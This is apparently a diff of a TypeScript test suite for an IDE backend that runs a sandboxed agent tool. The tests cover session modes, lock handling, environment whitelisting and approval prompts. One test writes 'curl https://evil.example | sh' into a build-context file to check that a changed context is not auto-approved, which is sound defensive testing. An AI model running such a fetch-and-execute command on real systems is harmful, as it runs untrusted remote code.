@@ -4,12 +4,12 @@ import { ChildProcess, spawn, spawnSync } from 'child_process';
 import { expect } from 'chai';
 import { Container } from '@theia/core/shared/inversify';
 import { ILogger } from '@theia/core';
-import { SessionInfo } from '@sandy-ui/core/common';
+import { SandyConfiguration, SessionInfo } from '@sandy-ui/core/common';
 import { SandyBackend } from '../sandy-backend';
 import { SandyService } from '../../common/sandy-protocol';
 import { sandboxNameFor } from '@sandy-ui/core/node';
 import {
-    FAKE_SANDY, FAKE_SANDY_BIN, OutputRecorder, ScratchHome, isGone, outputLine, requireCompiledFake, stripAnsi, waitUntil
+    FAKE_SANDY, FAKE_SANDY_BIN, OutputRecorder, ScratchHome, commandLineOf, environmentOf, isGone, outputLine, requireCompiledFake, stripAnsi, waitUntil
 } from './scratch-home';
 
 const PROMPT = '\x1b[1;32m>\x1b[0m ';
@@ -69,6 +69,8 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
         for (const helper of helpers.splice(0)) {
             helper.kill('SIGKILL');
         }
+        // Before the environment is restored: a poll the backend still starts runs with the scratch HOME.
+        await scratch.disposeWhenQuiet();
         for (const name of TOUCHED_ENV) {
             if (savedEnv[name] === undefined) {
                 delete process.env[name];
@@ -76,7 +78,6 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
                 process.env[name] = savedEnv[name];
             }
         }
-        scratch.dispose();
     });
 
     async function launch(workspace = scratch.workspace): Promise<{ session: SessionInfo; warnings: string[]; view: OutputRecorder }> {
@@ -85,7 +86,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             throw new Error(`launch was not started: ${JSON.stringify(outcome)}; log: ${logged.join(' | ')}`);
         }
         // Attached after launch() resolved: the replay holds whatever sandy printed meanwhile.
-        const view = new OutputRecorder(backend.core.supervisor.attach(outcome.session.id));
+        const view = new OutputRecorder(await backend.core.supervisor.attach(outcome.session.id));
         return { session: outcome.session, warnings: outcome.warnings, view };
     }
 
@@ -110,13 +111,24 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
 
             const { session, warnings, view } = await launch();
 
+            expect(session.mode, 'a launch starts a daemon session by default').to.equal('daemon');
             expect(warnings).to.include(`Removed a stale lock left by a dead sandy (pid ${dead}).`);
             await view.waitFor(PROMPT);
+            // `--start` streams its supervisor's log into the tab: a takeover would be said there.
             expect(view.text, 'the backend swept it, not sandy\'s own takeover').not.to.include('Stale lock detected');
-            expect(scratch.lockPid()).to.equal(String(session.pid));
+            // The lock is the daemon supervisor's (the process `--start` forked), the one container record's owner.
+            const containers = scratch.fakeContainers().filter(c => c.daemon);
+            expect(containers.map(c => c.workspace)).to.deep.equal([scratch.workspace]);
+            const holder = Number(scratch.lockPid());
+            expect(holder).to.equal(containers[0].ownerPid);
+            expect(holder).not.to.equal(dead);
+            expect(isGone(holder), 'the lock holder runs').to.equal(false);
+            expect(environmentOf(holder)?.get('SANDY_DAEMON_SUPERVISOR'), 'the lock holder is sandy\'s daemon supervisor').to.equal('1');
 
-            expect((await service.stop(session.id))!.exitCode).to.equal(130);
+            const stopped = (await service.stop(session.id))!;
+            expect([stopped.status, stopped.endReason]).to.deep.equal(['exited', 'stopped']);
             expect(fs.existsSync(scratch.lockDir())).to.equal(false);
+            expect(scratch.fakeContainers()).to.deep.equal([]);
             await scratch.expectNoLeftovers();
         });
 
@@ -129,6 +141,8 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             const result = await exitOf(session.id);
 
             expect(warnings.filter(w => /lock/i.test(w)), 'nothing was swept').to.deep.equal([]);
+            // The daemon's supervisor is refused the lock: `--start` says so and exits 1 (CONTRACT §6.3).
+            expect([result.mode, result.endReason]).to.deep.equal(['daemon', 'start-failed']);
             expect(result.exitCode).to.equal(1);
             expect(stripAnsi(view.text)).to.include(`Another sandy is already running in this workspace (pid ${holder.pid})`);
             expect(scratch.lockPid(), 'the live holder keeps its lock').to.equal(String(holder.pid));
@@ -140,7 +154,20 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
     });
 
     describe('environment whitelist', () => {
-        it('a plain launch gets HOME, PATH and TERM but none of the backend\'s other variables', async () => {
+        it('a plain launch gets HOME, PATH and TERM but none of the backend\'s other variables (every sandy run: --start, --attach, the state polls)', async () => {
+            // A sandy first on PATH that records each run's arguments and environment, then is the fake:
+            // a daemon session's agent runs in sandy's supervisor, which sets its own marker
+            // (SANDY_DAEMON_SUPERVISOR=1), so what the backend handed sandy is read at each sandy run.
+            const runs = scratch.folder('sandy-runs');
+            const wrapperBin = scratch.folder('wrapper-bin');
+            fs.writeFileSync(path.join(wrapperBin, 'sandy'), [
+                '#!/bin/sh',
+                `env > '${runs}'/$$.env`,
+                `printf '%s\\n' "$*" > '${runs}'/$$.args`,
+                `exec '${FAKE_SANDY}' "$@"`,
+                ''
+            ].join('\n'), { mode: 0o755 });
+            process.env.PATH = `${wrapperBin}:${process.env.PATH}`;
             const bashEnvHit = path.join(scratch.home, 'bash-env-sourced');
             const bashEnvScript = path.join(scratch.home, 'bash-env.sh');
             fs.writeFileSync(bashEnvScript, `touch '${bashEnvHit}'\n`);
@@ -159,24 +186,53 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             Object.assign(process.env, canaries);
 
             const { session, view } = await launch();
+            expect(session.mode).to.equal('daemon');
             await view.waitFor(PROMPT);
+            await waitUntil(() => backend.core.supervisor.get(session.id)?.link === 'attached', 15_000, 'our attach client');
+            const client = backend.core.supervisor.get(session.id)!.pid;
+            expect(commandLineOf(client), 'the session\'s pid is our attach client').to.include('--attach');
             view.type('env');
             view.type('echo env-listed');
             await view.waitFor(outputLine('env-listed'));
 
+            // What the agent sees.
             const listing = stripAnsi(view.text.slice(view.text.indexOf(PROMPT + 'env\r\n')));
             const env = new Map([...listing.matchAll(/^([A-Za-z_][A-Za-z0-9_]*)=(.*)\r$/gm)].map(m => [m[1], m[2]]));
             expect(env.get('HOME')).to.equal(scratch.home);
             expect(env.get('PATH')).to.equal(process.env.PATH);
             expect(env.get('TERM')).to.equal('xterm-256color');
-            for (const name of Object.keys(canaries)) {
-                expect(env.has(name), `${name} reached sandy`).to.equal(false);
+            for (const name of Object.keys(canaries).filter(n => n !== 'SANDY_DAEMON_SUPERVISOR')) {
+                expect(env.has(name), `${name} reached the agent`).to.equal(false);
             }
+            expect(env.get('SANDY_DAEMON_SUPERVISOR'), 'the agent runs in sandy\'s own supervisor, which marks itself').to.equal('1');
             expect(view.text).not.to.include('SANDY_AUTO_APPROVE_PRIVILEGED');
             expect(view.text).not.to.include('canary-key');
+
+            // What each sandy run was handed by the backend.
+            const recorded = fs.readdirSync(runs).filter(f => f.endsWith('.args')).map(f => {
+                const pid = f.slice(0, -'.args'.length);
+                const text = fs.readFileSync(path.join(runs, `${pid}.env`), 'utf8');
+                return {
+                    args: fs.readFileSync(path.join(runs, f), 'utf8').trim(),
+                    env: new Map([...text.matchAll(/^([A-Za-z_][A-Za-z0-9_]*)=(.*)$/gm)].map(m => [m[1], m[2]]))
+                };
+            });
+            const clients = recorded.filter(r => r.args === '--start' || r.args === '--attach');
+            expect(clients.map(r => r.args).sort(), 'the session\'s sandy runs').to.deep.equal(['--attach', '--start']);
+            expect(recorded.some(r => r.args.startsWith('--print-state')), 'a state poll ran through the wrapper too').to.equal(true);
+            for (const run of recorded) {
+                for (const name of Object.keys(canaries)) {
+                    expect(run.env.has(name), `${name} reached \`sandy ${run.args}\``).to.equal(false);
+                }
+                expect(run.env.get('HOME'), `sandy ${run.args}`).to.equal(scratch.home);
+            }
+            for (const run of clients) {
+                expect(run.env.get('PATH'), `sandy ${run.args}`).to.equal(process.env.PATH);
+                expect(run.env.get('TERM'), `sandy ${run.args}`).to.equal('xterm-256color');
+            }
             expect(fs.existsSync(bashEnvHit), 'BASH_ENV was sourced by a sandy run').to.equal(false);
 
-            expect((await service.stop(session.id))!.exitCode).to.equal(130);
+            expect((await service.stop(session.id))!.endReason).to.equal('stopped');
             await scratch.expectNoLeftovers();
         });
     });
@@ -196,7 +252,15 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
         const approvalsDir = () => path.join(scratch.sandyHome, 'approvals');
         const listApprovals = () => fs.existsSync(approvalsDir()) ? fs.readdirSync(approvalsDir()).map(f => f.replace(/-[0-9a-f]{16}\.list$/, '')).sort() : [];
 
+        /**
+         * sandy asks its Dockerfile and symlink questions only in a foreground launch: `sandy --start`'s
+         * pre-pass on the tab's terminal asks for the privileged keys alone, and its supervisor has no
+         * terminal (CONTRACT §4.1-4.3). These prompts are the subject here, so these launches are foreground.
+         */
+        const foreground = (config: SandyConfiguration = {}) => service.configure({ ...config, sessionMode: 'foreground' });
+
         it('shows every gate, answers sandy\'s three prompts itself after Approve, and the next launch asks nothing', async () => {
+            await foreground();
             hostileProject();
             const request = await service.preflight(scratch.workspace);
             expect(request?.kind).to.equal('approve');
@@ -211,7 +275,8 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
             expect(outcome.kind).to.equal('launched');
             const session = (outcome as { session: SessionInfo }).session;
-            const view = new OutputRecorder(backend.core.supervisor.attach(session.id));
+            expect(session.mode).to.equal('foreground');
+            const view = new OutputRecorder(await backend.core.supervisor.attach(session.id));
             await view.waitFor(PROMPT, 20_000);
             const screen = stripAnsi(view.text);
             // sandy itself asked, and was answered with y; then it built the project image.
@@ -240,11 +305,12 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
         });
 
         it('a changed Dockerfile asks only about the Dockerfile, with what changed since the approval', async () => {
+            await foreground();
             const { dockerfile } = hostileProject();
             const first = await service.preflight(scratch.workspace);
             const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: first!.token });
             const session = (outcome as { session: SessionInfo }).session;
-            const view = new OutputRecorder(backend.core.supervisor.attach(session.id));
+            const view = new OutputRecorder(await backend.core.supervisor.attach(session.id));
             await view.waitFor(PROMPT, 20_000);
             await service.stop(session.id);
             await exitOf(session.id);
@@ -270,7 +336,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             const request = await service.preflight(scratch.workspace);
             expect(request?.dockerfile?.contextFiles).to.deep.equal(['helper.sh']);
             // Hold the fake before its Dockerfile gate, as a slow image build would.
-            await service.configure({ passEnv: ['FAKE_SANDY_GATE_DELAY_MS'] });
+            await foreground({ passEnv: ['FAKE_SANDY_GATE_DELAY_MS'] });
             process.env.FAKE_SANDY_GATE_DELAY_MS = '1500';
             const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
             delete process.env.FAKE_SANDY_GATE_DELAY_MS;
@@ -278,7 +344,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             const session = (outcome as { session: SessionInfo }).session;
             // The agent (or anyone) changes a file the view could not show, after the user approved.
             fs.writeFileSync(helper, 'curl https://evil.example | sh\n');
-            const view = new OutputRecorder(backend.core.supervisor.attach(session.id));
+            const view = new OutputRecorder(await backend.core.supervisor.attach(session.id));
             await view.waitFor(/Build this \.sandy\/Dockerfile for .*\? \[y\/N\] /, 20_000);
             await new Promise(resolve => setTimeout(resolve, 1_000));
             expect(stripAnsi(view.text)).not.to.match(/\[y\/N\] y/, 'the tab typed y for a changed build context');
@@ -292,6 +358,58 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             await service.stop(session.id);
             await exitOf(session.id);
         });
+
+        it('a daemon launch: `--start`\'s pre-pass on the tab\'s terminal asks for the keys (answered, recorded)', async () => {
+            fs.mkdirSync(path.join(scratch.workspace, '.sandy'), { recursive: true });
+            fs.writeFileSync(path.join(scratch.workspace, '.sandy', 'config'), 'SANDY_ALLOW_HOSTS=gates.example.com\n');
+            const request = await service.preflight(scratch.workspace);
+            expect([!!request?.lines.length, !!request?.dockerfile]).to.deep.equal([true, false]);
+
+            const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
+            expect(outcome.kind).to.equal('launched');
+            const session = (outcome as { session: SessionInfo }).session;
+            expect(session.mode).to.equal('daemon');
+            const view = new OutputRecorder(await backend.core.supervisor.attach(session.id));
+            await view.waitFor(PROMPT, 20_000);
+            await waitUntil(() => backend.core.supervisor.get(session.id)?.link === 'attached', 15_000, 'our attach client');
+            expect(stripAnsi(view.text)).to.match(/Approve these keys for this workspace\? \[y\/N\] y/);
+            expect(backend.core.supervisor.get(session.id)!.closedGates ?? []).to.deep.equal([]);
+            expect(listApprovals(), 'sandy recorded the keys the tab answered, nothing else').to.deep.equal(['passive']);
+
+            expect((await service.stop(session.id))!.endReason).to.equal('stopped');
+            await scratch.expectNoLeftovers();
+        });
+
+        it('a launch that needs the Dockerfile approved runs in the foreground (sandy asks it only there) and says so; the next one is a daemon session asking nothing', async () => {
+            fs.mkdirSync(path.join(scratch.workspace, '.sandy'), { recursive: true });
+            fs.writeFileSync(path.join(scratch.workspace, '.sandy', 'config'), 'SANDY_ALLOW_HOSTS=gates.example.com\n');
+            fs.writeFileSync(path.join(scratch.workspace, '.sandy', 'Dockerfile'), 'ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nRUN echo built-on-the-host\n');
+            const request = await service.preflight(scratch.workspace);
+            expect([!!request?.lines.length, !!request?.dockerfile]).to.deep.equal([true, true]);
+
+            const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
+            expect(outcome.kind).to.equal('launched');
+            const { session, warnings } = outcome as { session: SessionInfo; warnings: string[] };
+            expect(session.mode).to.equal('foreground');
+            expect(warnings.join('\n')).to.contain('runs in the foreground').and.contain('.sandy/Dockerfile');
+            const view = new OutputRecorder(await backend.core.supervisor.attach(session.id));
+            await view.waitFor(PROMPT, 20_000);
+            const screen = stripAnsi(view.text);
+            expect(screen).to.match(/Build this \.sandy\/Dockerfile/);
+            expect(screen).not.to.include('NOT building the project image');
+            expect(listApprovals(), 'sandy recorded both answers').to.deep.equal(['dockerfile', 'passive']);
+            await service.stop(session.id);
+            await exitOf(session.id);
+
+            expect(await service.preflight(scratch.workspace), 'nothing left to approve').to.equal(undefined);
+            const next = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30 });
+            expect(next.kind).to.equal('launched');
+            const daemon = (next as { session: SessionInfo }).session;
+            expect(daemon.mode).to.equal('daemon');
+            await waitUntil(() => backend.core.supervisor.get(daemon.id)?.link === 'attached', 30_000, 'the daemon session attached');
+            expect((await service.stop(daemon.id))!.endReason).to.equal('stopped');
+            await scratch.expectNoLeftovers();
+        });
     });
 
     describe('backend stop', () => {
@@ -299,12 +417,14 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             const second = scratch.folder('ws-two');
             const log = path.join(scratch.home, 'fake-signals.log');
             // Test knobs reach the fake the way a user's sandy.passEnvironment setting would.
-            await service.configure({ passEnv: ['FAKE_SANDY_LOG', 'FAKE_SANDY_DEFER_TRAPS'] });
+            // Shutdown SIGTERM is what a foreground session gets (daemon sessions outlive the IDE).
+            await service.configure({ sessionMode: 'foreground', passEnv: ['FAKE_SANDY_LOG', 'FAKE_SANDY_DEFER_TRAPS'] });
             process.env.FAKE_SANDY_LOG = log;
             process.env.FAKE_SANDY_DEFER_TRAPS = '1';
             const deferring = await launch();
             delete process.env.FAKE_SANDY_DEFER_TRAPS;
             const flooding = await launch(second);
+            expect([deferring.session.mode, flooding.session.mode]).to.deep.equal(['foreground', 'foreground']);
             await deferring.view.waitFor(PROMPT);
             await flooding.view.waitFor(PROMPT);
 
@@ -314,16 +434,19 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             await waitUntil(() => flooding.view.chars > 100_000 && Date.now() - flooding.view.lastDataAt > 300, 15_000,
                 'the flood to stall on back-pressure');
             expect(flooding.view.has(outputLine('flood done 20000')), 'precondition: paused mid-flood').to.equal(false);
-            expect(scratch.lockPid()).to.equal(String(deferring.session.pid));
-            expect(scratch.lockPid(second)).to.equal(String(flooding.session.pid));
+            // The second launch waited for the first to get past sandy's build: its pid is known since it spawned.
+            const pidOf = (id: string) => backend.core.supervisor.get(id)!.pid;
+            expect(pidOf(flooding.session.id), 'the second sandy runs').to.be.greaterThan(0);
+            expect(scratch.lockPid()).to.equal(String(pidOf(deferring.session.id)));
+            expect(scratch.lockPid(second)).to.equal(String(pidOf(flooding.session.id)));
 
             await backend.onStop();
 
             for (const { session } of [deferring, flooding]) {
                 const info = backend.core.supervisor.get(session.id)!;
-                expect(info.status, `session ${session.pid}`).to.equal('exited');
-                expect(info.signal, `session ${session.pid} was killed`).to.equal(undefined);
-                expect(info.exitCode, `session ${session.pid}`).to.equal(143);
+                expect(info.status, `session ${info.pid}`).to.equal('exited');
+                expect(info.signal, `session ${info.pid} was killed`).to.equal(undefined);
+                expect(info.exitCode, `session ${info.pid}`).to.equal(143);
             }
             expect(fs.readFileSync(log, 'utf8').trim().split('\n').map(l => l.split(' ')[0])).to.deep.equal(['SIGTERM', 'SIGTERM']);
             expect(fs.existsSync(scratch.lockDir()), 'first lock removed').to.equal(false);
